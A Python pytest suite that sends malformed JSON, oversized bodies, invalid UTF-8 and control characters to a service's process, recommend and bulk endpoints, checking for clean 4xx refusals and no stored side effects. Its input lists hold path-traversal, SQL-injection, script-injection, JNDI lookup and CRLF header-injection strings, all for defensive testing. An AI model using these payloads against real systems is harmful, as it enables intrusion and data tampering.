"""Bad input against every endpoint of process, recommend and bulk, through the real
functions-framework apps with the Firestore and Pub/Sub emulators behind them.

Each test is one class of input with a fixed plan of requests. Refused input must get a 4xx
error envelope (never a 5xx) and leave nothing behind: no document in Firestore, no message on
the bulk topic, nothing new in the response cache and no invalidation. Valid text that only
looks dangerous (emoji, right-to-left and zero-width characters, SQL and script injection
strings) must be answered as plain text, JSON-escaped, with nosniff.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from devtools.emulators import PubSubEmulator
from tests.functions.function_apps import ADMIN_KEY, FunctionApp
from tests.reliability.corpus import (
    BODY_ENDPOINTS,
    MESSAGE,
    REQUEST_ID,
    Endpoint,
    Stack,
    assert_envelope,
    assert_json_only,
    build_stack,
    firestore_documents,
)
from tests.reliability.report import Report

pytestmark = pytest.mark.usefixtures("firestore_host", "pubsub_host")

MIB = 1024 * 1024
JOB_ID = "j" + "0" * 24  # well-formed, never made
# The field of each body endpoint that carries text (or a name), for inserting raw bytes.
TEXT_FIELD = {
    "/v2/process": ("message",),
    "/v1/chat": ("message",),
    "/v2/cache/invalidate": ("persona",),
    "/v2/recommend": ("message",),
    "/v2/bulk": ("items", 0, "message"),
}


@dataclass(frozen=True)
class Case:
    """One request of a plan: raw bytes or a JSON value to an endpoint, or a GET path."""

    endpoint: Endpoint
    data: bytes | None = None
    path: str | None = None  # a GET path other than the endpoint's template
    content_type: str = "application/json"
    environ: dict[str, str] = field(default_factory=dict)


def by_name(path: str) -> Endpoint:
    return next(e for e in BODY_ENDPOINTS if e.path == path)


def get(function: str, path: str) -> Endpoint:
    return Endpoint(function, "GET", path)


def encoded(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def with_value(body: dict[str, Any], where: tuple[str | int, ...], value: Any) -> dict[str, Any]:
    """A deep copy of ``body`` with ``value`` at ``where`` (dicts made on the way)."""
    copy: dict[str, Any] = json.loads(json.dumps(body))
    node: Any = copy
    for step in where[:-1]:
        node = node.setdefault(step, {}) if isinstance(node, dict) else node[step]
    node[where[-1]] = value
    return copy


def without(body: dict[str, Any], where: tuple[str | int, ...]) -> dict[str, Any]:
    copy: dict[str, Any] = json.loads(json.dumps(body))
    node: Any = copy
    for step in where[:-1]:
        node = node[step]
    del node[where[-1]]
    return copy


def in_text_field(endpoint: Endpoint, raw: bytes, *, as_value: bool = False) -> bytes:
    """The endpoint's valid body with ``raw`` as the content of its text field, byte for byte
    (or, ``as_value``, as the field's whole JSON value)."""
    assert endpoint.valid is not None
    marked = encoded(with_value(endpoint.valid, TEXT_FIELD[endpoint.path], "@@MARK@@"))
    return marked.replace(b'"@@MARK@@"' if as_value else b"@@MARK@@", raw)


def each_body(make: Callable[[Endpoint], list[bytes]]) -> list[Case]:
    return [Case(e, body) for e in BODY_ENDPOINTS for body in make(e)]


# --- the plans -----------------------------------------------------------------------------

MALFORMED = [
    b"",
    b"{",
    b'{"message": }',
    b"{'message': 'hi'}",
    b'{"message": "hi",}',
    b'{"message" "hi"}',
    b"[1,]",
    b'"unterminated',
    b"NaN",
    b'{"message": NaN}',
    b'{"message": -Infinity}',
    b"nul",
]


def malformed() -> list[Case]:
    return each_body(lambda _: MALFORMED)


def truncated() -> list[Case]:
    def cuts(endpoint: Endpoint) -> list[bytes]:
        whole = encoded(endpoint.valid)
        return [whole[: len(whole) * n // 4] for n in (1, 2, 3)] + [whole[:-1]]

    return each_body(cuts)


TOP_LEVEL = [[], "a text", 1, None, True]
WRONG_TYPES: dict[str, list[tuple[tuple[str | int, ...], Any]]] = {
    "/v2/process": [
        (("message",), 1),
        (("message",), True),
        (("message",), None),
        (("message",), ["hi"]),
        (("message",), {"text": "hi"}),
        (("user_id",), 42),
        (("session_id",), ["s-1"]),
        (("persona",), 1),
        (("options",), "yes"),
        (("options", "include_prompt"), "true"),
        (("options", "use_cache"), 0),
    ],
    "/v1/chat": [
        (("message",), 1),
        (("message",), None),
        (("message",), ["hi"]),
        (("user_id",), 42),
        (("user_id",), None),
        (("user_id",), True),
    ],
    "/v2/cache/invalidate": [
        (("persona",), 1),
        (("persona",), ["lua"]),
        (("persona",), {"name": "lua"}),
        (("persona",), True),
    ],
    "/v2/recommend": [
        (("message",), 1),
        (("message",), None),
        (("message",), ["hi"]),
        (("scenario",), 5),
    ],
    "/v2/bulk": [
        (("items",), "hi"),
        (("items",), {"message": "hi"}),
        (("items",), None),
        (("items",), [1]),
        (("items",), [[]]),
        (("items", 0, "message"), 1),
        (("items", 0, "id"), 5),
        (("idempotency_key",), 7),
    ],
}


def wrong_types() -> list[Case]:
    def bodies(endpoint: Endpoint) -> list[bytes]:
        assert endpoint.valid is not None
        fields = [encoded(with_value(endpoint.valid, w, v)) for w, v in WRONG_TYPES[endpoint.path]]
        return fields + [encoded(value) for value in TOP_LEVEL]

    return each_body(bodies)


MISSING_OR_EXTRA: dict[str, list[dict[str, Any]]] = {
    "/v2/process": [
        {},
        {"user_id": "u-1", "session_id": "s-1"},
        {"message": MESSAGE, "persnoa": "lua"},
        {"message": MESSAGE, "options": {"cache": False}},
        {"message": MESSAGE, "priority": 1},
    ],
    "/v1/chat": [
        {}, {"message": MESSAGE}, {"user_id": "u-1"}, {"message": MESSAGE, "user_id": "u", "x": 1}
    ],
    "/v2/cache/invalidate": [{"persona": "lua", "all": True}, {"scope": "all"}],
    "/v2/recommend": [
        {}, {"message": MESSAGE, "scenario": MESSAGE}, {"message": MESSAGE, "persona": "lua"}
    ],
    "/v2/bulk": [
        {},
        {"items": []},
        {"items": [{"id": "a"}]},
        {"items": [{"message": MESSAGE, "priority": 1}]},
        {"items": [{"message": MESSAGE}], "callback_url": "https://example.com/"},
    ],
}  # fmt: skip


def missing_or_extra() -> list[Case]:
    return each_body(lambda e: [encoded(body) for body in MISSING_OR_EXTRA[e.path]])


def one_mib() -> list[Case]:
    def bodies(endpoint: Endpoint) -> list[bytes]:
        def padded(make: Callable[[int], bytes]) -> bytes:
            body = make(MIB)
            return make(MIB - (len(body) - MIB))  # exactly 1 MiB

        text = padded(lambda n: in_text_field(endpoint, b"x" * n))
        junk = bytes(range(256)) * (MIB // 256)
        numbers = b"[" + b"1," * (MIB // 2 - 1) + b"]"
        items = encoded({"items": [{"message": "hi"}] * (MIB // 19)})  # about 1 MiB
        assert {len(text), len(junk), len(numbers)} == {MIB}
        return [text, junk, numbers, items]

    return each_body(bodies)


def deeply_nested() -> list[Case]:
    def bodies(endpoint: Endpoint) -> list[bytes]:
        made = []
        for depth in (33, 100, 1000, 100_000):
            arrays = b"[" * depth + b"]" * depth
            objects = b'{"a":' * depth + b"1" + b"}" * depth
            made.append(in_text_field(endpoint, arrays, as_value=True))
            made.append(in_text_field(endpoint, objects, as_value=True))
        return made

    return each_body(bodies)


INVALID_UTF8 = [
    b"\xff",
    b"\xc3\x28",
    b"\xc0\xaf",  # overlong "/"
    b"\xed\xa0\x80",  # a surrogate, UTF-8 encoded
    b"\xe2\x82",  # truncated
    b"caf\xe9",  # Latin-1
    b"\xf4\x90\x80\x80",  # past U+10FFFF
    b"\\ud800",  # JSON escapes of lone surrogates
    b"\\udfff",
    b"\\ud800\\u0041",
    b"\\ude00\\ud83d",  # a pair the wrong way round
]


def invalid_utf8() -> list[Case]:
    def bodies(endpoint: Endpoint) -> list[bytes]:
        whole = encoded(endpoint.valid)
        boms = [b"\xef\xbb\xbf" + whole, json.dumps(endpoint.valid).encode("utf-16")]
        return [in_text_field(endpoint, raw) for raw in INVALID_UTF8] + boms

    return each_body(bodies)


CONTROL = [
    b"hi\\u0000",
    b"\\u0000",
    b"ring\\u0007",
    b"\\u001b[31mred",
    b"del\\u007f",
    b"next\\u0085line",
    b"csi\\u009b",
    b"carriage\\rreturn",
    b"vertical\\u000btab",
    b"hi\x00raw",  # raw control characters are not JSON
    b"\x1b[0m",
]


def control_characters() -> list[Case]:
    return each_body(lambda e: [in_text_field(e, raw) for raw in CONTROL])


# Bidirectional overrides and isolates: text that displays in another order than it is stored.
BIDI = [b"\\u202egnp.exe\\u202c is a file name", b"\\u2066isolated\\u2069 text", b"a\\u202ab"]


def bidi_controls() -> list[Case]:
    return each_body(lambda e: [in_text_field(e, raw) for raw in BIDI])


TRAVERSAL = [
    "../../etc/passwd",
    "..",
    ".",
    "__config__",
    "sessions/other",
    "..\\..\\x",
    "%2e%2e%2f",
]
PROCESS = by_name("/v2/process")
BULK = by_name("/v2/bulk")
INVALIDATE = by_name("/v2/cache/invalidate")


def body_with(endpoint: Endpoint, where: tuple[str | int, ...], value: Any) -> Case:
    assert endpoint.valid is not None
    return Case(endpoint, encoded(with_value(endpoint.valid, where, value)))


def path_traversal() -> list[Case]:
    cases = [body_with(PROCESS, ("session_id",), v) for v in TRAVERSAL]
    cases += [
        body_with(PROCESS, ("user_id",), "../admin"),
        body_with(PROCESS, ("persona",), "../../lua"),
        body_with(INVALIDATE, ("persona",), "../lua"),
        body_with(BULK, ("items", 0, "id"), "../x"),
        body_with(BULK, ("items", 0, "user_id"), "a/../b"),
        body_with(BULK, ("idempotency_key",), "../../x"),
    ]
    personas = get("recommend", "/v2/personas/{name}")
    for name in ("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "..%5C..%5Cwin.ini", "lua%2F..%2F..",
                 "%2e%2e%2f%2e%2e%2fhealthz", "lua%00", "%EF%BC%AC%EF%BC%B5%EF%BC%A1"):  # fmt: skip
        cases.append(Case(personas, path=f"/v2/personas/{name}"))
    jobs = get("bulk", "/v2/bulk/{job_id}")
    for job in ("..%2F..%2Fsessions%2Fs-1", "%2e%2e", f"{JOB_ID}%2F..%2Fx", f"{JOB_ID}%00",
                "..%2Fbulk_jobs"):  # fmt: skip
        cases.append(Case(jobs, path=f"/v2/bulk/{job}"))
    return cases


def oversized_ids() -> list[Case]:
    long, huge = "a" * 129, "a" * 10_000
    cases = [
        body_with(PROCESS, ("session_id",), long),
        body_with(PROCESS, ("session_id",), huge),
        body_with(PROCESS, ("user_id",), long),
        body_with(PROCESS, ("persona",), "l" * 33),
        body_with(by_name("/v1/chat"), ("user_id",), long),
        body_with(INVALIDATE, ("persona",), huge),
        body_with(BULK, ("items", 0, "id"), long),
        body_with(BULK, ("items", 0, "user_id"), huge),
        body_with(BULK, ("idempotency_key",), long),
    ]
    personas = get("recommend", "/v2/personas/{name}")
    jobs = get("bulk", "/v2/bulk/{job_id}")
    junk_query = "&".join(f"p{n}={'q' * 90}" for n in range(1000))  # about 100 KB
    cases += [
        Case(personas, path=f"/v2/personas/{huge}"),
        Case(jobs, path=f"/v2/bulk/j{'0' * 10_000}"),
        Case(jobs, path=f"/v2/bulk/{JOB_ID}?page_token={'1' * 10_000}"),
        Case(jobs, path=f"/v2/bulk/{JOB_ID}?limit={'9' * 10_000}"),
        Case(jobs, path=f"/v2/bulk/{JOB_ID}?{junk_query}"),
        Case(jobs, path=f"/v2/bulk/{JOB_ID}?limit=1&limit=2"),
    ]
    return cases


INJECTION = [
    "'; DROP TABLE sessions; --",
    "<script>alert(1)</script>",
    '" OR 1=1 --',
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${jndi:ldap://example.com/a}",
    "</script><svg onload=alert(1)>",
]


def injection_in_names() -> list[Case]:
    cases = [body_with(PROCESS, ("persona",), text[:32]) for text in INJECTION]
    cases += [body_with(PROCESS, ("session_id",), text) for text in INJECTION]
    cases += [body_with(INVALIDATE, ("persona",), text[:32]) for text in INJECTION]
    cases += [body_with(BULK, ("items", 0, "id"), text) for text in INJECTION]
    personas = get("recommend", "/v2/personas/{name}")
    cases += [Case(personas, path=f"/v2/personas/{text.replace('/', '')}") for text in INJECTION]
    return cases


REFUSED: dict[str, Callable[[], list[Case]]] = {
    "malformed JSON (12 bodies x 5 endpoints)": malformed,
    "truncated JSON (4 cuts x 5 endpoints)": truncated,
    "wrong types (per field, and non-object bodies)": wrong_types,
    "missing and extra fields": missing_or_extra,
    "bodies of 1 MiB (text, junk, numbers, items x 5 endpoints)": one_mib,
    "deeply nested JSON (depth 33 to 100000, arrays and objects)": deeply_nested,
    "invalid UTF-8 and lone surrogates (13 x 5 endpoints)": invalid_utf8,
    "NUL and control characters (11 x 5 endpoints)": control_characters,
    "bidirectional controls (3 x 5 endpoints)": bidi_controls,
    "path traversal in persona, session, item and job ids": path_traversal,
    "oversized ids and query strings": oversized_ids,
    "SQL and script injection as persona, session and item ids": injection_in_names,
}


# --- the checks ----------------------------------------------------------------------------


@pytest.fixture
def stack(
    load_function: Callable[[str], FunctionApp],
    pubsub_emulator: PubSubEmulator,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Stack]:
    stack = build_stack(load_function, pubsub_emulator, monkeypatch)
    # One answer in the cache before the corpus: it must still be there, and the only one.
    seeded = stack.open(
        "process", "POST", "/v2/process", json_body={"message": MESSAGE}, key=ADMIN_KEY
    )  # admin: only admin keys are shown the cache tier
    assert seeded.get_json()["cache"]["tier"] == "computed"
    stack.statuses.clear()
    yield stack
    stack.pubsub.delete_topic(stack.topic)


def send(stack: Stack, case: Case) -> Any:
    endpoint = case.endpoint
    if case.path is not None:
        return stack.open(endpoint.function, "GET", case.path, environ=case.environ)
    return stack.send(
        endpoint, data=case.data, content_type=case.content_type, environ=case.environ
    )


def stored_after(stack: Stack) -> tuple[int, list[str]]:
    """How much the refused requests stored (0 when nothing), and what, for the message."""
    documents = firestore_documents()
    published = stack.published()
    stats = stack.cache_stats()
    message = {"message": MESSAGE}
    again = stack.open(
        "process", "POST", "/v2/process", json_body=message, key=ADMIN_KEY, record=False
    )
    invalidated = again.get_json()["cache"]["tier"] != "l1"
    strays = [
        *documents,
        *(f"published {m.get('job_id')}/{m.get('index')}" for m in published),
        *(["a cache invalidation"] if invalidated else []),
        *(f"cache request {n}" for n in range(stats["requests"] - 1)),
        *(f"cache entry {n}" for n in range(stats["l1"]["size"] - 1)),
    ]
    return len(strays), strays


@pytest.mark.parametrize("name", list(REFUSED))
def test_refused_input_is_a_4xx_envelope_and_stores_nothing(
    stack: Stack, report: Report, name: str
) -> None:
    cases = REFUSED[name]()
    problems = []
    for case in cases:
        response = send(stack, case)
        try:
            assert_envelope(response)
        except AssertionError as error:
            problems.append(
                f"{case.endpoint.name} {case.path or (case.data or b'')[:80]!r}: {error}"
            )
    lost, strays = stored_after(stack)
    report.record("Bad input", name, stack.statuses, lost=lost)
    assert problems == []
    assert len(stack.statuses) == len(cases)
    assert lost == 0, strays


def test_header_injection_in_x_request_id_is_replaced(stack: Stack, report: Report) -> None:
    injected = [
        "abc\r\nSet-Cookie: session=stolen",
        "abc\nX-Injected: 1",
        "a\x00b",
        "<script>alert(1)</script>",
        "a" * 129,
        "id with spaces",
        "caf\xe9",
        "../../etc/passwd",
    ]
    targets = [
        Case(get("process", "/healthz"), path="/healthz"),
        Case(get("recommend", "/v2/personas"), path="/v2/personas"),
        Case(get("bulk", "/v2/openapi.json"), path="/v2/openapi.json"),
        Case(PROCESS, data=b"{"),
    ]
    for value in injected:
        for target in targets:
            case = Case(
                target.endpoint, target.data, target.path, environ={"HTTP_X_REQUEST_ID": value}
            )
            response = send(stack, case)
            assert response.status_code in (200, 400)
            assert_json_only(response)
            echoed = response.headers["X-Request-Id"]
            assert echoed != value
            assert REQUEST_ID.fullmatch(echoed)
            assert "Set-Cookie" not in response.headers
            assert "X-Injected" not in response.headers
            if response.status_code == 400:
                assert response.get_json()["request_id"] == echoed
    well_formed = send(stack, Case(PROCESS, b"{", environ={"HTTP_X_REQUEST_ID": "trace-1:a.b_c"}))
    assert well_formed.headers["X-Request-Id"] == "trace-1:a.b_c"  # the control: ids are echoed
    lost, strays = stored_after(stack)
    report.record(
        "Bad input",
        "header injection in X-Request-Id (8 values x 4 requests, and 1 well-formed id)",
        stack.statuses,
        lost=lost,
        note="the id is replaced by a fresh one; valid requests answered",
    )
    assert lost == 0, strays


VALID_TEXT = {
    "right-to-left and zero-width characters": [
        "مرحبا، كيف أتعامل مع ضغط العمل؟",
        "שלום, איך אני מתקדם בקריירה?",
        "\u200fRLM marks\u200e stay accepted: only overrides and isolates are refused",
        "zero\u200bwidth\u200cjoiners\u200d in my code review",
        "\ufeffa byte order mark starts this question",
    ],
    "emoji": [
        "😀",
        "요즘 너무 지쳐요 😭😭",
        "👩‍👩‍👧‍👦 family first, how do I balance work?",
        "🇰🇷 moving to Seoul for a job ❤️",
        "👍🏽👍🏿 my team likes my reviews",
        "𝕿𝖍𝖎𝖘 is math bold text 𝟙𝟚𝟛",
    ],
    "SQL and script injection strings": INJECTION,
}


@pytest.mark.parametrize("kind", list(VALID_TEXT))
def test_valid_text_is_answered_as_plain_json_text(stack: Stack, report: Report, kind: str) -> None:
    texts = VALID_TEXT[kind]
    for text in texts:
        body = {"message": text, "options": {"include_prompt": True}}
        processed = stack.open("process", "POST", "/v2/process", json_body=body)
        assert processed.status_code == 200, processed.get_data(as_text=True)
        assert_json_only(processed)
        assert text.strip() in processed.get_json()["prompt"]["user"]  # as text, not markup
        chat = stack.open(
            "process", "POST", "/v1/chat", json_body={"message": text, "user_id": "u"}
        )
        assert chat.status_code == 200, chat.get_data(as_text=True)
        assert_json_only(chat)
        ranked = stack.open("recommend", "POST", "/v2/recommend", json_body={"message": text})
        assert ranked.status_code == 200, ranked.get_data(as_text=True)
        assert_json_only(ranked)
        assert len(ranked.get_json()["ranking"]) == 4
    job = stack.open(
        "bulk", "POST", "/v2/bulk", json_body={"items": [{"message": t} for t in texts]}
    )
    assert job.status_code == 202, job.get_data(as_text=True)
    assert_json_only(job)
    status = stack.open("bulk", "GET", job.get_json()["status_url"])
    assert status.status_code == 200
    assert_json_only(status)
    # What was queued is the text as sent (trimmed), and nothing else was stored.
    published = {m["index"]: m["message"] for m in stack.published()}
    lost = sum(1 for n, text in enumerate(texts) if published.get(n) != text.strip())
    documents = firestore_documents()
    assert not [d for d in documents if d.startswith("sessions/")]
    report.record("Bad input", f"{kind} (valid text)", stack.statuses, lost=lost,
                  note="answered as plain text: JSON strings only, nosniff")  # fmt: skip
    assert lost == 0, published
    assert stack.statuses == [200] * (3 * len(texts)) + [202, 200]


def test_regression_lone_surrogate_is_400_not_500(stack: Stack) -> None:
    # Found by this suite: "\ud800" parsed, then crashed the analysis (UTF-8 encode) with 500.
    for endpoint in BODY_ENDPOINTS:
        response = stack.send(endpoint, data=in_text_field(endpoint, b"\\ud800"))
        body = assert_envelope(response, {400})
        assert body["error"]["code"] == "INVALID_JSON"
        assert "surrogate" in body["error"]["message"]
    # A proper pair is an ordinary character.
    paired = stack.send(PROCESS, data=in_text_field(PROCESS, b"ok \\ud83d\\ude00"))
    assert paired.status_code == 200


def test_regression_nesting_is_refused_at_a_fixed_depth(stack: Stack) -> None:
    # Found by this suite: the depth at which nesting was refused depended on the stack left
    # over (about 970 in a test client); a body 900 deep reached validation and scrubbing.
    for depth, status in ((31, 422), (32, 422), (33, 400), (900, 400)):
        nested = b"[" * (depth - 1) + b"]" * (depth - 1)
        body = in_text_field(PROCESS, nested, as_value=True)
        response = stack.send(PROCESS, data=body)
        assert assert_envelope(response, {status})["error"]["code"] == (
            "INVALID_JSON" if status == 400 else "INVALID_INPUT"
        )
    # The admin endpoints were reachable with this key all along: the refusals were the body's.
    assert stack.open("process", "GET", "/v2/cache-stats", key=ADMIN_KEY).status_code == 200
